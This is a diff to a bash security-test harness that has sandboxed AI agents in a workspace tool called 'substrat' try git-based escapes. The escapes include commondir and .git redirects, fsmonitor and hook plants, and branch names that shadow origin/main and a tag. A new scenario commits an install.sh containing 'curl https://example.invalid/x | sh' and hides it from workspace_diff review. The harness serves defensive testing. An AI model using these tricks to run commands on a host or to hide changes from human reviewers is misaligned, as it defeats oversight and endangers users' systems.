@@ -14,6 +14,7 @@
 # means the command ran outside any sandbox. Results, per attack:
 #   HOST-COMMAND-RAN  a planted command ran on the host (the step is named)
 #   BRANCH-MOVED      a ref the attacking agent does not own changed
+#   REVIEW-BYPASS     workspace diff hides what the published branch carries
 #   ATTEMPTED         the plant landed somewhere, but nothing came of it
 #   BLOCKED           the sandbox refused the plant itself
 #   ERROR             the scenario could not be set up (see the log)
@@ -46,12 +47,12 @@ ugit() { local d=$1; shift; echo "\$ (cd $d && git $*)" >>"$T/log"; (cd "$d" && 
 # upty DIR CMD: the same on a terminal (so that git starts its pager).
 upty() { echo "\$ [tty] (cd $1 && $2)" >>"$T/log"; (cd "$1" && unset GIT_PAGER PAGER && TERM=xterm timeout 30 script -qec "$2" /dev/null) >>"$T/log" 2>&1 </dev/null; }
 
-setup() { # NAME [git init options]: a repository, a home, a daemon, workspace team, agent lead
-	N=$1; shift
+setup() { # NAME: a repository (git init $INIT), a home, a daemon, workspace team, agent lead
+	N=$1
 	T=$TOP/$N R=$TOP/$N/repo H=$TOP/$N/home M=$TOP/$N/markers
-	PLANTED="" RAN="" MOVED="" NOTE="" NA=""
+	PLANTED="" RAN="" MOVED="" NOTE="" NA="" HIDDEN=""
 	mkdir -p "$M" && : >"$T/log"
-	git init -q -b main "$@" "$R" && echo one >"$R/f" && git -C "$R" add f && git -C "$R" commit -qm one || return 1
+	git init -q -b main ${INIT:-} "$R" && echo one >"$R/f" && git -C "$R" add f && git -C "$R" commit -qm one || return 1
 	if [ -n "${REPOCFG:-}" ]; then git -C "$R" config core.repositoryformatversion 1 && git -C "$R" config extensions.worktreeConfig true; fi
 	HOMES+=("$H")
 	echo "\$ substrat daemon start" >>"$T/log"
@@ -102,14 +103,14 @@ $2" '{command:$c}')
 	timeout "$WAIT" "$S" --home "$H" agent send "$1" "!shell $j" >"$T/out" 2>&1
 	cat "$T/out" >>"$T/log"
 	grep -Eq '(^|shell -> )PLANTED' "$T/out" && PLANTED=1
+	grep -q '^\[tool_result\] shell' "$T/out" || NOTE="$NOTE no shell result from $1;"
 	check "turn of $1"
 }
 # tool AGENT NAME ARGS: the agent calls one of its tools.
 tool() { sub agent send "$1" "!$2 $3"; check "$1's $2"; }
 snap() { OWN=$1; REFS0=$(hgit for-each-ref --format='%(refname) %(objectname)' | grep -Ev "^($OWN) "; echo "HEAD $(hgit symbolic-ref -q HEAD)"); }
 check() { # STEP: what appeared in $M, and what moved, since the last check
-	local f cur
-	local got; got=$(ls -A "$M" 2>/dev/null | tr '\n' ' ')
+	local cur got; got=$(ls -A "$M" 2>/dev/null | tr '\n' ' ')
 	[ -n "$got" ] && RAN="$RAN [$1: ${got% }]" && rm -f "$M"/*
 	while read -r ref sha; do
 		if [ "$ref" = HEAD ]; then cur=$(hgit symbolic-ref -q HEAD); else cur=$(hgit rev-parse -q --verify "$ref" 2>/dev/null); fi
@@ -122,16 +123,17 @@ check() { # STEP: what appeared in $M, and what moved, since the last check
 finish() {
 	local res=BLOCKED
 	[ -n "$PLANTED" ] && res=ATTEMPTED
+	[ -n "$HIDDEN" ] && res=REVIEW-BYPASS
 	[ -n "$MOVED" ] && res=BRANCH-MOVED
 	[ -n "$RAN" ] && res=HOST-COMMAND-RAN && [ -n "$MOVED" ] && res=HOST-COMMAND-RAN+BRANCH-MOVED
-	[ -n "$NOTE" ] && res=ERROR
+	case $res in BLOCKED|ATTEMPTED) [ -n "$NOTE" ] && res=ERROR ;; esac
 	[ -n "$NA" ] && res=N/A
 	case $res in HOST*|BRANCH*) FAIL=1 ;; esac
-	ROWS+=("$(printf '%-6s %-16s %s' "$N" "$res" "${NOTE}${NA}${RAN}${MOVED}")")
+	ROWS+=("$(printf '%-6s %-16s %s' "$N" "$res" "${NOTE}${NA}${HIDDEN}${RAN}${MOVED}")")
 	sub daemon stop
 }
 want() { [ "$ONLY" = "  " ] || [[ $ONLY == *" $1 "* ]]; }
-run() { want "$1" || return 0; echo "== $1: $2" >&2; setup "$1" "${@:4}" || NOTE="setup failed "; snap 'refs/heads/substrat/team'; [ -z "$NOTE" ] && "$3"; finish; }
+run() { want "$1" || return 0; echo "== $1: $2" >&2; setup "$1" || NOTE="setup failed "; snap 'refs/heads/substrat/team'; [ -z "$NOTE" ] && "${@:3}"; finish; }
 
 # The triggers that read a workspace: the agent's own workspace_diff, the
 # CLI's workspace diff, and the user's git in the workspace's root.
@@ -154,9 +156,6 @@ dir) mv .git .git.orig 2>/dev/null || rm -f .git; [ ! -e .git ] && mv .evil .git
 esac; ls -la .git; cat .git 2>/dev/null | head -3"
 	ws_triggers
 }
-a1file() { a1 file; }
-a1link() { a1 link; }
-a1dir() { a1 dir; }
 
 # 2: worker w1 sends its sibling w2's commondir to a git dir of its own; the lead diffs w2.
 a2() {
@@ -268,21 +267,70 @@ git config core.fsmonitor "touch $M/fsmonitor; true" && echo PLANTED'
 	sub workspace create team8 --git "$H/workspaces/USER/lab/root/app"; check "substrat workspace create --git (agent's repo)"
 }
 
-run 1-file "pointer file .git -> agent's git dir" a1file
-run 1-link "pointer as a symlink" a1link
-run 1-dir ".git replaced by a directory" a1dir
+# 9: a commondir file in the agent's own git dir (rw in its sandbox), sending git to a
+# common dir of the agent's; the user looks at the clone's git dir on the host
+# (git --git-dir=... log), and the daemon diffs and publishes.
+a9() {
+	ash lead 'G=$(git rev-parse --absolute-git-dir); C=$(git rev-parse --path-format=absolute --git-common-dir)
+HG=$(awk "\$5==\"/workspace/.git\"{print \$4}" /proc/self/mountinfo); echo "${HG:-$G}" >/workspace/.gd
+evil "$G/evil" && realpath --relative-to="$G/evil/objects" "$C/objects" >"$G/evil/objects/info/alternates" &&
+cp -r "$C/refs" "$G/evil/" && { cp "$C/packed-refs" "$G/evil/" 2>/dev/null; true; } && echo evil >"$G/commondir" && echo PLANTED; echo two >>f'
+	local g; g=$(cat "$ROOT/.gd" 2>/dev/null)
+	sub workspace diff team; check "substrat workspace diff"
+	sub workspace publish team; check "substrat workspace publish"
+	[ -n "$g" ] || { NOTE="no git dir path "; return; }
+	upty "$ROOT" "git --git-dir=$g log -1"; check "user: git --git-dir=GITDIR log (tty)"
+	ugit "$ROOT" --git-dir="$g" --work-tree="$ROOT" status; check "user: git --git-dir=GITDIR --work-tree=root status"
+	upty "$g" "git log -1"; check "user: git log in GITDIR (tty)"
+}
+
+# 10: branch names an agent chooses (spawn_agent "branch") that shadow the user's
+# names: origin/main (refs/heads/ comes before refs/remotes/) and tag v1 for checkout.
+a10() {
+	hgit update-ref refs/remotes/origin/main HEAD && hgit tag v1 HEAD
+	local om v1; om=$(hgit rev-parse origin/main) v1=$(hgit rev-parse v1^{commit})
+	tool lead spawn_agent '{"name":"w1","instructions":"w1","worktree":true,"branch":"origin/main"}'
+	tool lead spawn_agent '{"name":"w2","instructions":"w2","worktree":true,"branch":"v1"}'
+	for w in w1 w2; do ash $w 'echo evil >>f && git -c user.name=a -c user.email=a@x commit -qam evil && echo PLANTED'; done
+	sub workspace publish lead/w1; sub workspace publish lead/w2; check "publish"
+	local now; now=$(hgit rev-parse origin/main 2>/dev/null)
+	[ "$now" = "$om" ] || MOVED="$MOVED origin/main:${om:0:7}->${now:0:7}(refs/heads/origin/main)@[user: git rev-parse origin/main]"
+	ugit "$R" checkout -q v1; now=$(hgit rev-parse HEAD)
+	[ "$now" = "$v1" ] || MOVED="$MOVED v1:${v1:0:7}->${now:0:7}(refs/heads/v1)@[user: git checkout v1]"
+}
+
+# 11: the review tools hide a committed change: the agent commits a file and then
+# removes it from its index and work tree, so workspace_diff compares a work tree equal
+# to the base, while the branch published to the repository carries the file.
+a11() {
+	ash lead 'echo "curl https://example.invalid/x | sh" >install.sh && git add install.sh &&
+git -c user.name=a -c user.email=a@x commit -qm "docs: typo" && git rm -q --cached install.sh && rm install.sh && echo PLANTED'
+	tool lead workspace_diff '{"workspace":"team"}'
+	sub workspace publish team
+	local d; d=$(timeout "$WAIT" "$S" --home "$H" workspace diff team 2>&1)
+	if echo "$d" | grep -q "no changes" && hgit cat-file -e substrat/team:install.sh 2>/dev/null; then
+		HIDDEN="workspace diff says 'no changes'; substrat/team in the repo has install.sh"
+	fi
+}
+
+run 1-file "pointer file .git -> agent's git dir" a1 file
+run 1-link "pointer as a symlink" a1 link
+run 1-dir ".git replaced by a directory" a1 dir
 run 2 "sibling's commondir -> agent's git dir" a2
-run 3 "hooks in a template-less repository" a3 --template=
+INIT=--template= run 3 "hooks in a template-less repository" a3
 REPOCFG=1 run 4 "config.worktree with extensions.worktreeConfig" a4
 run 5 "move main (update-ref, push, ref file, packed-refs, HEAD)" a5
 run 5b "worker moves sibling's and parent's branches" a5b
 run 6 "workspace root made a bare git dir" a6
 run 7 "own git dir's config/hooks linked read-write" a7
 run 8 "user makes a git workspace of an agent's repository" a8
+run 9 "commondir in the agent's own git dir" a9
+run 10 "branch names that shadow origin/main and a tag" a10
+run 11 "workspace diff hides a committed file" a11
 
 echo
 echo "substrat: $S"
 printf '%-6s %-16s %s\n' TEST RESULT "DETAIL ([step: markers that appeared] ref:old->new@[step])"
 printf '%s\n' "${ROWS[@]}"
-[ "${KEEP:-0}" = 1 ] || echo "(logs: KEEP=1 $0 ... keeps $TOP)"
+[ "${KEEP:-0}" = 1 ] || echo "(KEEP=1 keeps the homes, repositories and logs)"
 exit $FAIL
